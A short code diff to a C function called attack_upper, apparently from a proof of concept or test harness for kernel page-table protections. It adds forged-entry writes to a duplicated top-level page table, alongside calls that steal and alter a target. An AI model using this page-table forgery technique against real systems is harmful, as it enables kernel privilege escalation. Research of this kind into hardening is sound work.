@@ -61,6 +61,8 @@ int attack_upper(int level, const char *path)
 
 	forged = forge_tables(level, target, secret);
 	vuln_write(e.addr, forged | info->table);
+	if (level == KPKEYS_VULN_PGD && info->pgd_copy)
+		vuln_write(e.addr + info->pgd_copy, forged | info->table);
 	sync_between(before, after);
 	if (level == KPKEYS_VULN_PGD)
 		steal_and_alter_as_kernel(target);
@@ -68,6 +70,8 @@ int attack_upper(int level, const char *path)
 		steal_and_alter(target);
 
 	vuln_write(e.addr, info->sync);
+	if (level == KPKEYS_VULN_PGD && info->pgd_copy)
+		vuln_write(e.addr + info->pgd_copy, info->sync);
 	sync_between(before, after);
 	return 0;
 }
